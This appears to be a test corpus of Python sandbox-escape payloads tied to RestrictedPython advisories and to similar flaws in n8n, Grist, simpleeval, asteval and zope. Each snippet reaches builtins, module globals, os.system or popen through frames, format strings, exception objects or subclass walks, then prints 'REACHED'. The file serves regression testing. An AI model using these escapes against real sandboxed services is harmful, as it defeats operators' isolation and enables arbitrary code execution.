# What got out of sandboxes of this kind: of RestrictedPython by its advisories, and of its neighbours.

#: CVE-2023-37271, in a comprehension: the builtins of the outermost frame
frames = []
generator = (generator.gi_frame.f_back for _ in (1,))
frames = [frame for frame in generator]
print('REACHED', frames[0].f_builtins['open'])

#: CVE-2023-37271, in a function: the builtins of the frame that asks
generator = None
def walk():
    global found
    found = generator.gi_frame.f_back.f_back or generator.gi_frame.f_back
    yield found
generator = walk()
generator.send(None)
print('REACHED', found.f_builtins['__import__']('sys').modules)

#: CVE-2023-37271, without a name to refuse: the frame
def count():
    yield 1
frame = getattr(count(), 'gi' + '_' + 'frame')
print('REACHED', frame)

#: CVE-2023-37271, by its code: the code of a generator
generator = (x for x in ())
print('REACHED', generator.gi_code.co_code)

#: CVE-2023-37271, from the inner generator: what it delegates to, and that one's frame
def inner():
    yield 1
def outer():
    yield from inner()
generator = outer()
next(generator)
print('REACHED', generator.gi_yieldfrom.gi_frame)

#: CVE-2023-41039: the globals of a function, as text
secret = 'kept'
def f():
    pass
print('REACHED', '{0.__globals__[secret]}'.format(f))

#: CVE-2023-41039, by format_map: the globals of a function, as text
secret = 'kept'
def f():
    pass
print('REACHED', '{f.__globals__[secret]}'.format_map({'f': f}))

#: CVE-2023-41039, as a method of the class: the globals of a function, as text
secret = 'kept'
def f():
    pass
print('REACHED', str.format('{0.__globals__[secret]}', f))

#: CVE-2023-41039, as a method of a class of its own: the globals of a function, as text
class Text(str):
    pass
secret = 'kept'
def f():
    pass
print('REACHED', Text('{0.__globals__[secret]}').format(f))

#: CVE-2023-41039, by the formatter: the globals of a function, as text
import string
secret = 'kept'
def f():
    pass
print('REACHED', string.Formatter().format('{0.__globals__[secret]}', f))

#: the release 7.2, a name that is no plain text: the globals of a function
class Name(str):
    def startswith(self, *prefix):
        return False
    def __getitem__(self, index):
        return 'x'
    def __contains__(self, text):
        return False
def f():
    pass
print('REACHED', getattr(f, Name('__globals__')))

#: the release 7.2, a name that is two names: the globals of a function
class Name(str):
    asked = 0
    def __str__(self):
        return 'harmless'
    def __hash__(self):
        Name.asked += 1
        return hash('__name__' if Name.asked < 2 else '__globals__')
    def __eq__(self, other):
        return other == '__globals__'
def f():
    pass
for attempt in range(4):
    found = getattr(f, Name('__globals__'), None)
    if isinstance(found, dict):
        print('REACHED', found)
        break

#: CVE-2024-47532: the module behind a facade
import string
try:
    string.nothing
except AttributeError as error:
    print('REACHED', error.obj._string)

#: CVE-2024-47532, by the import statement: the loader of the module behind a facade
import math
try:
    math.nothing
except AttributeError as error:
    loader = getattr(error.obj, '__loader' + '__')
    print('REACHED', loader.load_module)

#: CVE-2024-47532, with what the strict profile has at hand: the excluded name of a facade
#: only: strict
import string
try:
    string.nothing
except AttributeError as error:
    print('REACHED', error.obj.Formatter)

#: CVE-2025-22153, a group that splits wrongly: an exception that is none
#: control: none, it brings down the versions that it concerns
class Group(ExceptionGroup):
    def split(self, condition):
        return 'no exception', None
try:
    raise Group('', [ValueError()])
except* ValueError:
    try:
        raise KeyError
    except KeyError as error:
        if not isinstance(error.__context__, BaseException):
            print('REACHED', error.__context__)

#: CVE-2025-22153, a group of what it is not: the frame of a handler
class Group(ExceptionGroup):
    def derive(self, exceptions):
        return Group(self.message, exceptions)
try:
    raise Group('', [ValueError(), TypeError()])
except* ValueError as error:
    print('REACHED', error.__traceback__.tb_frame)
except* TypeError:
    pass

#: CVE-2026-55830, a positional-only parameter: an attribute guard of its own
#: control: hooks
def mine(object, name):
    print('REACHED', name)
def read(value, _getattr_=mine, /):
    return value.upper
read('')

#: CVE-2026-55830, a positional-only parameter without a default: a write guard of its own
#: control: hooks
class Box:
    pass
def mine(object):
    print('REACHED', object)
    return object
def put(box, _write_, /):
    box.value = 1
put(Box(), mine)

#: CVE-2026-55830, a positional-only parameter of a lambda: an item guard of its own
#: control: hooks
def mine(object, key):
    print('REACHED', key)
(lambda value, _getitem_=mine, /: value['key'])({'key': 1})

#: CVE-2026-55830, a positional-only parameter of a method: an iteration guard of its own
#: control: hooks
def mine(iterable):
    print('REACHED', iterable)
    return iterable
class Loop:
    def run(self, items, _getiter_=mine, /):
        return [item for item in items]
Loop().run([1])

#: CVE-2026-76825: the globals of a function, alive
import string
def f():
    pass
found, _ = string.Formatter().get_field('0.__globals__', (f,), {})
print('REACHED', found['__builtins__'])

#: CVE-2026-76825, in names that any program may use: the globals of a function, alive
import string
def f():
    pass
result = string.Formatter().get_field('0.__globals__', [f], {})
print('REACHED', result[0])

#: CVE-2026-76825, by the method below: an argument through a formatter
#: only: strict
import string
print('REACHED', string.Formatter().vformat('{0.real}', [5], {}))

#: CVE-2026-76825, by a class that inherits: the globals of a function, alive
import string
class Keeper(string.Formatter):
    def format_field(self, value, spec):
        kept.append(value)
        return ''
kept = []
def f():
    pass
Keeper().format('{0.__globals__}', f)
print('REACHED', kept[0])

#: the audit of 8.5, an import that waits: a module that none may import
#: control: none, the syntax is that of Python 3.15
lazy import os
print('REACHED', os.getcwd)

#: the audit of 8.5, a comprehension that unpacks: an iteration without its guard
#: only: strict
#: control: none, the syntax is that of Python 3.15
print('REACHED', [*x for x in [[1], [2]]])

#: the audit of 8.5, the frame of an asynchronous generator: the globals
async def count():
    yield 1
print('REACHED', count().ag_frame.f_globals)

#: the audit of 8.5, the code of an asynchronous generator: the code
async def count():
    yield 1
print('REACHED', getattr(count(), 'ag_' + 'code'))

#: the release 9.0: iteration in native code
#: only: strict
print('REACHED', bytes([1, 2]), sorted([2, 1]))

#: the release 9.0, in pairs: iteration in native code
#: only: strict
for pair in zip([1], reversed([2])):
    print('REACHED', pair)

#: n8n CVE-2025-68668: the C library
import ctypes
print('REACHED', ctypes.CDLL(None).system)

#: n8n CVE-2026-0863, a format that fails: the live object that it had walked to
def f():
    pass
try:
    '{0.__globals__[__builtins__].nothing}'.format(f)
except AttributeError as error:
    print('REACHED', error.obj.open)

#: n8n CVE-2026-0863, by two formats: the live frame of a traceback
try:
    1 / 0
except ZeroDivisionError as error:
    traceback = error.__traceback__
try:
    '{0.tb_frame.nothing}'.format(traceback)
except AttributeError as error:
    if error.obj is not None and error.obj is not traceback:
        print('REACHED', error.obj)

#: asteval, a format in a mapping that fails: the live list of all classes' own method
try:
    '{c.__subclasses__.nothing}'.format_map({'c': object})
except AttributeError as error:
    if error.obj is not None and error.obj is not object:
        print('REACHED', error.obj())

#: Grist CVE-2026-24002: a class of another module, and that module's globals
import os
for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == '_wrap_close':
        print('REACHED', kind.__init__.__globals__['system'])

#: simpleeval #138: a module through what another module holds
import functools
print('REACHED', functools.namedtuple.__globals__['_sys'].modules)

#: simpleeval #138, by the name that a module gives another: a module through what another module holds
import collections
print('REACHED', getattr(collections, '_s' + 'ys').modules)

#: zope #142, nothing but getattr: all classes
base = getattr(getattr((), '__cl' + 'ass__'), '__ba' + 'se__')
print('REACHED', getattr(base, '__sub' + 'classes__')())

#: zope #142, to the end: a process
base = getattr(getattr((), '__class__'), '__base__')
for kind in getattr(base, '__subclasses__')():
    scope = getattr(getattr(kind, '__init__', None), '__globals__', {})
    if 'popen' in scope:
        print('REACHED', scope['popen'])
        break
